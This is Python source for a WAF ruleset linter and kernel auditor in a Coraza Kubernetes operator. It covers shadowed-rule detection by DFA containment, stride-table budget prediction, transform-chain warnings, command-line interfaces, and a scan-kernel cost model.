- :func:`dfa_contains` — the product-construction containment oracle
  behind the shadowed-rule check.
- :func:`predict_group_tables` — per-group stride/table footprint
  prediction, bit-identical to what the runtime builds.
- ``python -m coraza_kubernetes_operator_trn.analysis`` — the CLI
  (see __main__.py) auditing ruleset files or directories.
"""

from .analyzer import (  # noqa: F401
    MAX_PRODUCT_STATES,
    analyze_compiled,
    analyze_ruleset,
    dfa_contains,
    predict_group_tables,
)
from .diagnostics import (  # noqa: F401
    ERROR,
    INFO,
    SEVERITIES,
    WARNING,
    AnalysisReport,
    Diagnostic,
)
