"""Structured waf-lint diagnostics.

One ``Diagnostic`` is one finding of the ruleset analyzer
(analysis/analyzer.py): a severity, a stable machine-readable code, the
offending rule/span, and a fix hint. ``AnalysisReport`` is what every
integration surface consumes:

- admission (controlplane/controllers.py): errors -> reject the RuleSet,
  warnings -> event + accept;
- the CLI (``python -m coraza_kubernetes_operator_trn.analysis``):
  rendered text or ``--json``;
- EngineStats/Metrics: ``counts()`` becomes per-tenant gauges.
"""

from __future__ import annotations

from dataclasses import dataclass, field

ERROR = "error"      # admission hard-rejects the ruleset
WARNING = "warning"  # admission accepts but emits a lint event
INFO = "info"        # classification detail (CLI/metrics only)
SEVERITIES = (ERROR, WARNING, INFO)


@dataclass(frozen=True)
class Diagnostic:
    """One analyzer finding."""

    severity: str            # error | warning | info
    code: str                # stable kebab-case id, e.g. "shadowed-rule"
    message: str             # human-readable, self-contained
    rule_id: int | None = None
    line: int | None = None  # 1-based SecLang source line
    span: tuple[int, int] | None = None  # char span inside the operator arg
    fix_hint: str | None = None

    def render(self) -> str:
        loc = []
        if self.rule_id is not None:
            loc.append(f"rule {self.rule_id}")
        if self.line is not None:
            loc.append(f"line {self.line}")
        if self.span is not None:
            loc.append(f"span {self.span[0]}..{self.span[1]}")
        where = f" [{', '.join(loc)}]" if loc else ""
        hint = f"\n    hint: {self.fix_hint}" if self.fix_hint else ""
        return f"{self.severity.upper()} {self.code}{where}: " \
               f"{self.message}{hint}"

    def as_dict(self) -> dict:
        return {
            "severity": self.severity,
            "code": self.code,
            "message": self.message,
            "rule_id": self.rule_id,
            "line": self.line,
            "span": list(self.span) if self.span else None,
            "fix_hint": self.fix_hint,
        }


@dataclass
class AnalysisReport:
    """All findings for one ruleset, ordered by (severity, rule, code)."""

    diagnostics: list[Diagnostic] = field(default_factory=list)

    def add(self, severity: str, code: str, message: str, *,
            rule_id: int | None = None, line: int | None = None,
            span: tuple[int, int] | None = None,
            fix_hint: str | None = None) -> None:
        assert severity in SEVERITIES, severity
        self.diagnostics.append(Diagnostic(
            severity=severity, code=code, message=message, rule_id=rule_id,
            line=line, span=span, fix_hint=fix_hint))

    @property
    def errors(self) -> list[Diagnostic]:
        return [d for d in self.diagnostics if d.severity == ERROR]

    @property
    def warnings(self) -> list[Diagnostic]:
        return [d for d in self.diagnostics if d.severity == WARNING]

    @property
    def infos(self) -> list[Diagnostic]:
        return [d for d in self.diagnostics if d.severity == INFO]

    @property
    def ok(self) -> bool:
        """True when admission may accept (no errors)."""
        return not self.errors

    def counts(self) -> dict[str, int]:
        out = dict.fromkeys(SEVERITIES, 0)
        for d in self.diagnostics:
            out[d.severity] += 1
        return out

    def sort(self) -> None:
        rank = {s: i for i, s in enumerate(SEVERITIES)}
        self.diagnostics.sort(key=lambda d: (
            rank[d.severity], d.rule_id if d.rule_id is not None else -1,
            d.code))

    def summary(self) -> str:
        c = self.counts()
        return (f"{c[ERROR]} error(s), {c[WARNING]} warning(s), "
                f"{c[INFO]} info(s)")

    def render(self) -> str:
        lines = [d.render() for d in self.diagnostics]
        lines.append(self.summary())
        return "\n".join(lines)

    def as_dict(self) -> dict:
        return {
            "diagnostics": [d.as_dict() for d in self.diagnostics],
            "counts": self.counts(),
            "ok": self.ok,
        }
