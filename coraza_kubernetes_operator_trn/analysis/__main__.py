"""waf-lint CLI: ``python -m coraza_kubernetes_operator_trn.analysis``.

Audits SecLang ruleset files or directories with the admission-time
analyzer. A directory is aggregated the same way the RuleSet controller
aggregates ConfigMap keys (and build_crs_corpus orders the CRS corpus):
``crs-setup.conf`` first, then the remaining ``*.conf`` sorted by name,
concatenated into ONE ruleset. Exit status 1 when any ERROR diagnostic
is found (the same findings admission would hard-reject on), else 0.
"""

from __future__ import annotations

import argparse
import json
import os
import sys

from .analyzer import analyze_ruleset


def _aggregate_dir(path: str) -> str:
    names = sorted(n for n in os.listdir(path) if n.endswith(".conf"))
    if "crs-setup.conf" in names:
        names.remove("crs-setup.conf")
        names.insert(0, "crs-setup.conf")
    parts = []
    for name in names:
        with open(os.path.join(path, name), encoding="utf-8") as f:
            parts.append(f"# ==== {name} ====\n{f.read()}")
    return "\n".join(parts)


def _load(path: str) -> tuple[str, str]:
    """path -> (display name, aggregated SecLang text)."""
    if os.path.isdir(path):
        return path, _aggregate_dir(path)
    with open(path, encoding="utf-8") as f:
        return path, f.read()


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(
        prog="python -m coraza_kubernetes_operator_trn.analysis",
        description="waf-lint: static analysis of SecLang rulesets")
    ap.add_argument(
        "paths", nargs="*",
        help="ruleset .conf files or directories (a directory is "
        "aggregated into one ruleset); default: the repo's rulesets/ "
        "fixtures")
    ap.add_argument("--json", action="store_true", dest="as_json",
                    help="emit one JSON report object per input")
    ap.add_argument("--budget", type=int, default=None,
                    help="override WAF_STRIDE_TABLE_BUDGET for the "
                    "blowup prediction")
    ap.add_argument("--scan-stride", default=None,
                    help="override WAF_SCAN_STRIDE (e.g. 1 silences "
                    "stride diagnostics)")
    ap.add_argument("--no-info", action="store_true",
                    help="hide INFO-level classification diagnostics")
    args = ap.parse_args(argv)

    paths = args.paths
    if not paths:
        here = os.path.dirname(os.path.dirname(os.path.dirname(
            os.path.abspath(__file__))))
        default_dir = os.path.join(here, "rulesets", "crs_corpus")
        if not os.path.isdir(default_dir):
            ap.error("no paths given and no rulesets/crs_corpus/ found")
        paths = [default_dir]

    any_errors = False
    json_out = []
    for path in paths:
        name, text = _load(path)
        report = analyze_ruleset(text, budget=args.budget,
                                 scan_stride=args.scan_stride)
        if not report.ok:
            any_errors = True
        if args.as_json:
            json_out.append({"path": name, **report.as_dict()})
            continue
        diags = report.diagnostics
        if args.no_info:
            diags = [d for d in diags if d.severity != "info"]
        print(f"== {name}: {report.summary()}")
        for d in diags:
            print("  " + d.render().replace("\n", "\n  "))
    if args.as_json:
        print(json.dumps(json_out, indent=2))
    return 1 if any_errors else 0


if __name__ == "__main__":
    sys.exit(main())
