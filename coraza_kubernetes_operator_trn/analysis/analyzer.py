"""waf-lint: static analysis over parsed SecLang + compiled artifacts.

The analyzer runs BEFORE a ruleset reaches the data plane and answers the
questions the runtime can only discover the hard way:

- **Shadowed rules** (`shadowed-rule`, ERROR): an earlier interrupting
  rule whose match language contains a later rule's — the later rule can
  never fire. Decided exactly by DFA product-construction emptiness over
  the already-minimized matcher automata (compiler/dfa.py), with a
  shortest witness value in the diagnostic.
- **Stride/table blowup** (`stride-table-blowup` ERROR /
  `stride-budget-exceeded` WARNING): predicts the composed-table
  footprint per transform-chain group against WAF_STRIDE_TABLE_BUDGET
  using the same ``prepare_tables``/``compose_stride`` the runtime uses,
  so prediction == runtime behavior by construction.
- **Transform-chain canonicalization** (WARNINGs): mid-chain ``t:none``
  resets, redundant idempotent repeats, overridden case transforms,
  case-folding before ``base64decode``.
- **Device-compilability classification** (INFOs): per rule, whether it
  runs as device automata, partially gated, host-only (with the
  compiler's per-link reasons from ``CompiledRuleSet.host_reasons``), or
  was statically resolved.

Soundness guards for the shadow check (anything dynamic disables it):
the engine mode must be literally ``On`` (DetectionOnly never
interrupts), no rule may carry ``skip``/``skipAfter``/``ctl`` actions
(control flow can resurrect a shadowed rule), and both rules must be
chainless, fully-exact, single-matcher, over identical target sets and
transform chains. Within those guards the containment claim is exact:
any transaction firing the later rule fires the earlier interrupting
rule first, in the same phase walk.
"""

from __future__ import annotations

from collections import deque

from ..compiler.compile import CompiledRuleSet, compile_ruleset
from ..compiler.dfa import DFA
from ..compiler.errors import CompileError
from ..compiler.nfa import BOS, EOS
from ..engine.reference import _parse_config
from ..ops.packing import (
    compose_stride,
    prepare_tables,
    resolve_stride,
    stride_budget,
)
from ..seclang.ast import Rule
from ..seclang.parser import SecLangError
from .diagnostics import ERROR, INFO, WARNING, AnalysisReport

# product-construction cap: beyond this many (sub, sup) state pairs the
# check reports "unknown" instead of burning admission latency. Minimized
# CRS matchers are < 1k states, so real pairs stay far below this.
MAX_PRODUCT_STATES = 50_000


# ---------------------------------------------------------------------------
# DFA containment (the shadowed-rule decision procedure)

def dfa_contains(sub: DFA, sup: DFA,
                 max_product_states: int = MAX_PRODUCT_STATES
                 ) -> tuple[bool | None, bytes | None]:
    """Is every single value accepted by ``sub`` also accepted by ``sup``?

    Values are scanned as ``BOS bytes EOS`` (the lane stream framing), so
    acceptance of value v means: run from start, step BOS, step each byte
    of v, and the EOS transition lands on the absorbing accept state.
    Works on the EOS-reset matcher DFAs the compiler emits; per-value
    containment implies stream containment because EOS resets state
    between values.

    Returns ``(True, None)`` when contained, ``(False, witness)`` with a
    shortest counterexample value, or ``(None, None)`` when the product
    exceeded ``max_product_states`` (undecided — callers must not claim
    shadowing).
    """
    if sub.accept < 0:
        return True, None  # sub accepts nothing: vacuously contained
    # joint alphabet: one representative byte per unique class pair, so
    # the BFS branches on |classes_sub x classes_sup| <= C_a*C_b arcs,
    # not 256
    reps: dict[tuple[int, int], int] = {}
    for s in range(256):
        key = (int(sub.classes[s]), int(sup.classes[s]))
        reps.setdefault(key, s)
    arcs = sorted(reps.values())
    start = (int(sub.table[sub.start, sub.classes[BOS]]),
             int(sup.table[sup.start, sup.classes[BOS]]))
    # pair -> (parent pair, byte) for shortest-witness reconstruction
    seen: dict[tuple[int, int], tuple[tuple[int, int], int] | None] = {
        start: None}
    queue: deque[tuple[int, int]] = deque([start])
    while queue:
        a, b = queue.popleft()
        a_acc = int(sub.table[a, sub.classes[EOS]]) == sub.accept
        b_acc = (sup.accept >= 0
                 and int(sup.table[b, sup.classes[EOS]]) == sup.accept)
        if a_acc and not b_acc:
            wit: list[int] = []
            cur = (a, b)
            while seen[cur] is not None:
                cur, byte = seen[cur]  # type: ignore[misc]
                wit.append(byte)
            return False, bytes(reversed(wit))
        for s in arcs:
            nxt = (int(sub.table[a, sub.classes[s]]),
                   int(sup.table[b, sup.classes[s]]))
            if nxt not in seen:
                if len(seen) >= max_product_states:
                    return None, None
                seen[nxt] = ((a, b), s)
                queue.append(nxt)
    return True, None


# ---------------------------------------------------------------------------
# shadow analysis

# disruptive resolutions that interrupt the remaining same-phase walk
# (engine/transaction._apply_disruptive: allow interrupts the current
# phase before converting to allow scope)
_INTERRUPTING = frozenset({"deny", "drop", "redirect", "allow"})

# actions that reroute the walk — their presence anywhere disables the
# shadow check (a skipped shadower cannot shadow)
_CONTROL_FLOW_ACTIONS = ("skip", "skipafter", "ctl")


def _effective_disruptive(rule: Rule, default_actions) -> str | None:
    """Mirror of engine/transaction._apply_disruptive's resolution."""
    d = rule.disruptive
    if d == "block":
        da = default_actions.get(rule.phase)
        d = da.disruptive if da else None
    if d in (None, "pass"):
        return None
    return d


def _has_control_flow(rule: Rule) -> bool:
    for link in [rule] + rule.chain_rules:
        for name in _CONTROL_FLOW_ACTIONS:
            if link.action(name) is not None:
                return True
    return False


def _shadow_analysis(cs: CompiledRuleSet, report: AnalysisReport,
                     max_product_states: int) -> None:
    cfg = _parse_config(cs.ast)
    if cfg.rule_engine_mode == "Off":
        report.add(WARNING, "rule-engine-off",
                   "SecRuleEngine Off: no rule in this ruleset will ever "
                   "execute", fix_hint="set SecRuleEngine On (or remove "
                   "the directive) if inspection is intended")
        return
    if cfg.rule_engine_mode != "On":
        return  # DetectionOnly never interrupts: nothing can shadow
    if any(_has_control_flow(r) for r in cs.ast.rules):
        return  # skip/skipAfter/ctl can reroute around a shadower
    single_mid = {rid: mids[0] for rid, mids in cs.gate.items()
                  if len(mids) == 1}
    matcher_of = {m.mid: m for m in cs.matchers}
    # bucket exact-single-matcher chainless rules by (phase, targets,
    # transform chain): only identical scan domains can shadow exactly
    buckets: dict[tuple, list[tuple[Rule, DFA]]] = {}
    for rule in cs.ast.rules:
        if rule.chain_rules or rule.id not in cs.fully_exact:
            continue
        mid = single_mid.get(rule.id)
        if mid is None:
            continue
        m = matcher_of[mid]
        if any(v.exclude for v in m.variables):
            continue  # excluded-member targets complicate the domain
        key = (rule.phase, frozenset(m.variables), m.transforms)
        buckets.setdefault(key, []).append((rule, m.dfa))
    for _key, rows in buckets.items():
        for i, (r1, d1) in enumerate(rows):
            if _effective_disruptive(
                    r1, cfg.default_actions) not in _INTERRUPTING:
                continue
            for r2, d2 in rows[i + 1:]:
                contained, witness = dfa_contains(
                    d2, d1, max_product_states)
                if contained:
                    report.add(
                        ERROR, "shadowed-rule",
                        f"rule {r2.id} can never fire: every value it "
                        f"matches also matches rule {r1.id} "
                        f"(@{r1.operator.name if r1.operator else '?'} "
                        f"{r1.operator.argument if r1.operator else ''!r})"
                        f", which interrupts the phase first",
                        rule_id=r2.id, line=r2.line,
                        fix_hint=f"delete rule {r2.id}, or reorder it "
                        f"before rule {r1.id}, or narrow rule "
                        f"{r1.id}'s pattern")
                elif contained is False and witness is not None:
                    # overlap but not containment: fine, say nothing
                    pass


# ---------------------------------------------------------------------------
# stride/table blowup prediction

def predict_group_tables(cs: CompiledRuleSet,
                         scan_stride: "int | str | None" = None
                         ) -> list[dict]:
    """Per transform-chain group, the exact table footprint the runtime
    will build — same grouping, same ``prepare_tables``, same
    ``resolve_stride`` as models/waf_model.WafModel, so the prediction
    and the runtime agree by construction (tested in
    tests/test_analysis.py)."""
    by_chain: dict[tuple[str, ...], list] = {}
    for m in cs.matchers:
        by_chain.setdefault(m.transforms, []).append(m)
    out = []
    for transforms, matchers in sorted(by_chain.items()):
        pt = prepare_tables(matchers)
        stride, strided = resolve_stride(pt, scan_stride)
        out.append({
            "transforms": "|".join(transforms) or "none",
            "matchers": len(matchers),
            "stride": stride,
            "base_table_entries": pt.padded_entries,
            "table_padding_entries": pt.padding_waste,
            "stride_table_entries": strided.entries if strided else 0,
        })
    return out


def _stride_analysis(cs: CompiledRuleSet, report: AnalysisReport,
                     budget: int | None,
                     scan_stride: "int | str | None") -> None:
    req = str(scan_stride).strip().lower() if scan_stride is not None \
        else None
    if req in ("1", "none", "off"):
        return  # stride scanning disabled: no composed tables to blow
    budget = stride_budget() if budget is None else budget
    by_id = {r.id: r for r in cs.ast.rules}
    by_chain: dict[tuple[str, ...], list] = {}
    for m in cs.matchers:
        by_chain.setdefault(m.transforms, []).append(m)
    for transforms, matchers in sorted(by_chain.items()):
        pt = prepare_tables(matchers)
        if compose_stride(pt, 2, budget_entries=budget) is not None:
            continue  # fits: the runtime will scan this group strided
        chain = "|".join(transforms) or "none"
        # attribute: does any single matcher blow the budget alone?
        solo = []
        for m in matchers:
            ptm = prepare_tables([m])
            if compose_stride(ptm, 2, budget_entries=budget) is None:
                solo.append(m)
        if solo:
            for m in solo:
                rule = by_id.get(m.rule_id)
                report.add(
                    ERROR, "stride-table-blowup",
                    f"pattern {m.dfa.pattern[:60]!r} "
                    f"(S={m.dfa.n_states}, C={m.dfa.n_classes}) alone "
                    f"exceeds WAF_STRIDE_TABLE_BUDGET={budget} when "
                    f"stride-composed — pathological state blowup",
                    rule_id=m.rule_id,
                    line=rule.line if rule else None,
                    fix_hint="simplify the pattern (bounded repeats and "
                    "wide classes multiply DFA states), or raise "
                    "WAF_STRIDE_TABLE_BUDGET")
        else:
            report.add(
                WARNING, "stride-budget-exceeded",
                f"transform group '{chain}' ({len(matchers)} matchers, "
                f"{pt.padded_entries} base entries) exceeds "
                f"WAF_STRIDE_TABLE_BUDGET={budget} when stride-composed; "
                "the runtime will fall back to stride-1 scans for this "
                "group",
                fix_hint="raise WAF_STRIDE_TABLE_BUDGET or split the "
                "ruleset across tenants if stride-2 throughput matters")


# ---------------------------------------------------------------------------
# transform-chain canonicalization

# transforms where f(f(x)) == f(x): writing one twice in a row is
# certainly redundant. urldecode/base64decode are deliberately NOT here —
# repeated decodes catch double-encoding attacks.
_IDEMPOTENT = frozenset({
    "lowercase", "uppercase", "trim", "trimleft", "trimright",
    "removenulls", "replacenulls", "removewhitespace",
    "compresswhitespace", "normalizepath", "normalizepathwin",
    "removecomments", "cmdline",
})
_CASE = ("lowercase", "uppercase")


def _transform_chain_analysis(cs: CompiledRuleSet,
                              report: AnalysisReport) -> None:
    for rule in cs.ast.rules:
        for link in [rule] + rule.chain_rules:
            written = link.written_transforms
            rid, line = rule.id, link.line
            for i, t in enumerate(written):
                if t == "none" and i > 0:
                    dropped = ",".join(f"t:{w}" for w in written[:i])
                    report.add(
                        WARNING, "transform-none-mid-chain",
                        f"t:none at position {i + 1} silently discards "
                        f"the transforms written before it ({dropped})",
                        rule_id=rid, line=line,
                        fix_hint="write t:none first, or delete the "
                        "earlier t: actions")
            resolved = [t.name for t in link.transformations]
            for a, b in zip(resolved, resolved[1:]):
                if a == b and a in _IDEMPOTENT:
                    report.add(
                        WARNING, "redundant-transform",
                        f"t:{a} applied twice in a row is a no-op the "
                        "second time",
                        rule_id=rid, line=line,
                        fix_hint=f"drop the duplicate t:{a}")
            cases = [t for t in resolved if t in _CASE]
            if len(set(cases)) > 1:
                report.add(
                    WARNING, "overridden-case-transform",
                    f"chain applies both t:{cases[0]} and t:{cases[-1]}; "
                    f"the last one wins for letters, making the earlier "
                    "case-fold a dead transform",
                    rule_id=rid, line=line,
                    fix_hint=f"keep only t:{cases[-1]}")
            if "base64decode" in resolved:
                bi = resolved.index("base64decode")
                early_case = [t for t in resolved[:bi] if t in _CASE]
                if early_case:
                    report.add(
                        WARNING, "case-before-base64decode",
                        f"t:{early_case[0]} before t:base64decode "
                        "corrupts the (case-sensitive) base64 alphabet — "
                        "the decode will produce garbage or fail",
                        rule_id=rid, line=line,
                        fix_hint="move the case transform after "
                        "t:base64decode")


# ---------------------------------------------------------------------------
# device-compilability classification

def _compilability_analysis(cs: CompiledRuleSet,
                            report: AnalysisReport) -> None:
    by_id = {r.id: r for r in cs.ast.rules}
    for rid in sorted(cs.static_resolved):
        rule = by_id.get(rid)
        report.add(
            INFO, "static-resolved-rule",
            f"rule {rid} was resolved at compile time (proven "
            "never-fire under the folded configuration, or an inert "
            "control rule whose effects were materialized) — no "
            "matchers built, host walk skips it",
            rule_id=rid, line=rule.line if rule else None)
    for rid in cs.always_candidates:
        rule = by_id.get(rid)
        reasons = cs.host_reasons.get(rid, ["no device-compilable link"])
        report.add(
            INFO, "host-only-rule",
            f"rule {rid} always evaluates on the host: "
            + "; ".join(reasons),
            rule_id=rid, line=rule.line if rule else None)
    for rid in sorted(cs.gate):
        if rid in cs.fully_exact:
            continue
        rule = by_id.get(rid)
        extra = cs.host_reasons.get(rid)
        why = ("; ".join(extra) if extra
               else "device matchers are prefilters (inexact), host "
               "confirms candidates")
        report.add(
            INFO, "partial-device-rule",
            f"rule {rid} is device-gated but host-confirmed: {why}",
            rule_id=rid, line=rule.line if rule else None)


# ---------------------------------------------------------------------------
# entry points

def analyze_compiled(cs: CompiledRuleSet, *, budget: int | None = None,
                     scan_stride: "int | str | None" = None,
                     max_product_states: int = MAX_PRODUCT_STATES
                     ) -> AnalysisReport:
    """Run every check over an already-compiled ruleset.

    ``budget`` overrides WAF_STRIDE_TABLE_BUDGET for the blowup
    prediction; ``scan_stride`` overrides WAF_SCAN_STRIDE (pass "1" to
    silence stride diagnostics the runtime will never hit)."""
    report = AnalysisReport()
    _shadow_analysis(cs, report, max_product_states)
    _stride_analysis(cs, report, budget, scan_stride)
    _transform_chain_analysis(cs, report)
    _compilability_analysis(cs, report)
    report.sort()
    return report


def analyze_ruleset(text: str, *, budget: int | None = None,
                    scan_stride: "int | str | None" = None,
                    max_product_states: int = MAX_PRODUCT_STATES
                    ) -> AnalysisReport:
    """Parse + compile + analyze SecLang text. Parse/compile failures
    become a single ERROR diagnostic instead of raising, so the CLI and
    admission can report them uniformly."""
    try:
        cs = compile_ruleset(text)
    except SecLangError as exc:
        report = AnalysisReport()
        report.add(ERROR, "parse-error", str(exc),
                   line=getattr(exc, "line", None))
        return report
    except CompileError as exc:
        report = AnalysisReport()
        report.add(ERROR, "compile-error", exc.detail,
                   rule_id=exc.rule_id, line=exc.line, span=exc.span)
        return report
    return analyze_compiled(cs, budget=budget, scan_stride=scan_stride,
                            max_product_states=max_product_states)
