"""Static per-program cost model: the analytic half of the profiler join.

waf-audit's kernel walkers enforce per-scan-step op *budgets*
(gather-budget ``2*stride+2``, compose matmul-budget ``2*chunk+4``) over
traced jaxprs. This module exports the same formulas as a *prediction*
API: given a program key — scan mode x stride x length bucket (plus the
group's table dims) — return the analytic operation counts the engine's
kernels are audited against, so the runtime profiler
(:mod:`...runtime.profiler`) can report measured seconds per analytic
scan step / per matmul for every observed program without tracing
anything at serve time.

The numbers deliberately mirror the budgets in
:mod:`.kernels`/:mod:`...ops.automata_jax`, not a hardware model: they
are denominators for efficiency ratios ("is compose/s2 paying off per
matmul?"), stable across backends, and cheap enough to compute inside a
/debug endpoint.
"""

from __future__ import annotations

import math

#: modes the model understands; ``host`` is the profiler's pseudo-program
#: for fallback batches and has no analytic cost.
MODES = ("gather", "onehot", "matmul", "compose", "bass_compose",
         "screen", "bass_screen")


def _compose_depth(width: int, stride: int, chunk: int) -> int:
    """Sequential depth of the chunked associative compose scan.

    Delegates to :func:`...ops.automata_jax.compose_depth` (the
    authoritative formula next to the kernel) when importable, else
    mirrors it: ``ceil(steps/K) * (ceil(log2 K) + 1)``.
    """
    try:
        from ...ops.automata_jax import compose_depth
        return int(compose_depth(width, stride=stride, chunk=chunk))
    except Exception:
        steps = math.ceil(width / max(1, stride))
        k = max(1, min(chunk, steps))
        return math.ceil(steps / k) * (max(0, k - 1).bit_length() + 1)


def predict_program(mode: str, stride: int, bucket: int, *,
                    chunk: int | None = None,
                    m: int = 0, s: int = 0, c: int = 0) -> dict:
    """Analytic cost of one compiled program.

    Returns ``scan_steps`` (sequential depth — compose's log-depth
    advantage shows up here), ``gathers``/``matmuls`` (total gather- and
    contraction-class ops over the scan, from the audited per-step
    budgets), and ``resident_entries`` (int32-entry equivalents resident
    on device, from the group's table dims ``(m, s, c)`` when known).

    Raises ``ValueError`` for unknown modes so a profiler key that
    drifts from the kernel family is loud, not silently zero-cost.
    """
    mode = str(mode)
    if mode not in MODES:
        raise ValueError(f"unknown scan mode {mode!r}; one of {MODES}")
    stride = max(1, int(stride))
    bucket = int(bucket)
    if bucket <= 0:
        raise ValueError(f"bucket must be positive, got {bucket}")
    steps = math.ceil(bucket / stride)
    out: dict = {
        "mode": mode, "stride": stride, "bucket": bucket,
        "gathers": 0, "matmuls": 0,
        "resident_entries": int(m) * int(s) * int(c),
    }
    if mode in ("gather", "screen"):
        # per audited step: k class gathers + k-1 pair folds + 1 state
        # gather (+2 headroom for the screen's fused mask row)
        per_step = 2 * stride + (2 if mode == "screen" else 0)
        out["scan_steps"] = steps
        out["gathers"] = steps * per_step
    elif mode in ("onehot", "matmul"):
        # one state x T2 contraction per step; class lookup gathers stay
        out["scan_steps"] = steps
        out["gathers"] = steps * stride
        out["matmuls"] = steps
        # bf16 T2 operand [m, s*p, s]: /2 for int32 equivalents
        out["resident_entries"] = int(m) * int(s) * int(c) * int(s) // 2
    elif mode == "bass_screen":
        # the hand-scheduled screen schedule (ops/bass_screen
        # bass_screen_matmuls_per_chunk): sequential state applies at 2
        # TensorE ops/step plus the mask join — one amortized block-end
        # matmul per chunk at stride 1 (counted with headroom 2), one
        # extra matmul per step for strided departing-state
        # contributions; one indirect bank-row gather per step (two
        # when strided: map + mask rows share the index stream)
        try:
            from ...ops.bass_screen import (
                bass_screen_matmuls_per_chunk,
                screen_chunk,
            )
            k = screen_chunk(chunk, stride)
            per_chunk = bass_screen_matmuls_per_chunk(k, stride)
        except Exception:
            k = max(1, min(int(chunk or 32), 4 if stride > 1 else 1 << 30))
            per_chunk = 2 * k + 2 if stride == 1 else 3 * k
        k = max(1, min(k, steps))
        chunks = math.ceil(steps / k)
        out["chunk"] = k
        out["scan_steps"] = steps
        out["gathers"] = steps * (2 if stride > 1 else 1)
        out["matmuls"] = chunks * per_chunk
        # map bank [c*s, s] bf16 (+ strided mask bank rows)
        out["resident_entries"] = int(c) * int(s) * int(s) // 2
    else:  # compose / bass_compose
        if chunk is None:
            from ...config import env as envcfg
            chunk = envcfg.get_int("WAF_COMPOSE_CHUNK")
        chunk = max(1, int(chunk))
        k = max(1, min(chunk, steps))
        chunks = math.ceil(steps / k)
        out["chunk"] = chunk
        out["scan_steps"] = _compose_depth(bucket, stride, chunk)
        out["gathers"] = steps * stride
        if mode == "bass_compose":
            # the hand-scheduled TensorE schedule: exactly 2 ops per
            # step (K-1 tree compositions + 1 state apply per chunk,
            # each a transpose + matmul) — no lowering headroom, that
            # is the point of hand-scheduling (ops/bass_compose
            # bass_matmuls_per_chunk)
            out["matmuls"] = 2 * steps
        else:
            # audited per-chunk budget 2*chunk+4: <=2K-2 prefix-combine
            # matmuls + one state apply + lowering headroom, per chunk
            out["matmuls"] = 2 * steps + 4 * chunks
        out["resident_entries"] = int(m) * int(s) * int(c) * int(s) // 2
    return out
