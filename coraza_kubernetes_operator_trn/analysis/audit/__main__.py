"""waf-audit CLI: ``python -m coraza_kubernetes_operator_trn.analysis.audit``.

Traces the full kernel-variant matrix and checks the concurrency
protocols (see the package docstring). Exit status 1 when any ERROR
diagnostic is found, else 0. ``--json`` emits one report object
(the same shape waf-lint emits) plus the audit digest.
"""

from __future__ import annotations

import argparse
import json
import os
import sys


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(
        prog="python -m coraza_kubernetes_operator_trn.analysis.audit",
        description="waf-audit: kernel-graph + concurrency-protocol "
                    "static auditor")
    ap.add_argument("--json", action="store_true", dest="as_json",
                    help="emit the report as one JSON object")
    ap.add_argument("--quick", action="store_true",
                    help="trimmed kernel matrix (the artifact-stamp "
                    "profile): strides 1-2, two buckets, no "
                    "screen/block/rp variants")
    ap.add_argument("--no-kernels", action="store_true",
                    help="skip the jaxpr kernel audit (concurrency "
                    "checks only; no jax import)")
    ap.add_argument("--no-concurrency", action="store_true",
                    help="skip the lock-order and epoch checks")
    ap.add_argument("--no-sched", action="store_true",
                    help="skip the waf-sched BASS kernel schedule "
                    "verifier (semaphore liveness, buffer hazards, "
                    "SBUF/PSUM capacity, op-count budgets)")
    ap.add_argument("--no-info", action="store_true",
                    help="hide INFO-level diagnostics")
    args = ap.parse_args(argv)

    # tracing is abstract evaluation — no accelerator needed, and CPU
    # keeps the audit identical on dev boxes and CI. setdefault, not
    # assignment: an explicit platform choice wins.
    os.environ.setdefault("JAX_PLATFORMS", "cpu")
    # the rp-sharded variant needs a 2-device row; the flag must be in
    # place before the first backend initialization (see mesh.py), so
    # this cannot go through mesh.force_host_device_count() here.
    flags = os.environ.get("XLA_FLAGS", "")  # lint-allow: ENV001 -- XLA_FLAGS is jax's knob, not a WAF_* knob; must be read-modify-written pre-init
    if "xla_force_host_platform_device_count" not in flags:
        os.environ["XLA_FLAGS"] = (
            flags + " --xla_force_host_platform_device_count=2").strip()

    from . import report_digest, run_audit, sched_digest

    sections: dict = {}
    report = run_audit(quick=args.quick,
                       kernels=not args.no_kernels,
                       concurrency=not args.no_concurrency,
                       sched=not args.no_sched,
                       sections=sections)
    digest = report_digest(report)
    if args.as_json:
        print(json.dumps({"digest": digest,
                          "sched_digest": sched_digest(report),
                          "sections": sections,
                          **report.as_dict()},
                         indent=2))
        return 0 if report.ok else 1
    diags = report.diagnostics
    if args.no_info:
        diags = [d for d in diags if d.severity != "info"]
    print(f"== waf-audit: {report.summary()} (digest {digest})")
    if sections:
        parts = ", ".join(
            f"{name} {'ok' if info['ok'] else 'FAIL'}"
            f" ({info['seconds']}s)"
            for name, info in sections.items())
        print(f"   sections: {parts}")
    for d in diags:
        print("  " + d.render().replace("\n", "\n  "))
    return 0 if report.ok else 1


if __name__ == "__main__":
    sys.exit(main())
