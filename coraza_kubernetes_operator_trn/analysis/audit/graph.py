"""Jaxpr-graph primitives for the kernel auditor.

``jax.make_jaxpr`` gives the exact trace jit would cache — abstract
evaluation only, no compile, no execution — so properties proven on the
jaxpr hold for every compiled NEFF of the same shape bucket. The walkers
here recurse through every nested jaxpr (scan/while/cond bodies,
pjit/shard_map calls) so a callback or an unbounded gather cannot hide
inside a sub-jaxpr.
"""

from __future__ import annotations

import hashlib

# Primitives that call back into the host from the device path. Any of
# these inside a serving kernel means a host round trip per dispatch —
# the exact thing the batched data plane exists to avoid — and neuronx-cc
# cannot compile them at all.
CALLBACK_PRIMITIVES = frozenset({
    "pure_callback", "io_callback", "callback",
    "host_callback_call", "outside_call", "debug_callback",
})

# Primitives that read memory through a data-dependent index — the ops
# GpSimdE executes per scan step. The per-step budget bounds these.
GATHER_PRIMITIVES = frozenset({
    "gather", "dynamic_slice", "dynamic_update_slice",
})

# Contraction primitives — TensorE matmuls. Compose-mode chunk bodies are
# bounded in these (the associative-scan combine rounds + the state
# apply); an unexpected blowup here is a map-composition regression.
MATMUL_PRIMITIVES = frozenset({"dot_general"})


def _maybe_jaxprs(v):
    """Yield any jaxprs hiding in an eqn param value (ClosedJaxpr, bare
    Jaxpr, or a list/tuple of either — cond carries branch lists)."""
    if hasattr(v, "jaxpr"):  # ClosedJaxpr
        yield v.jaxpr
    elif hasattr(v, "eqns"):  # bare Jaxpr
        yield v
    elif isinstance(v, (list, tuple)):
        for item in v:
            yield from _maybe_jaxprs(item)


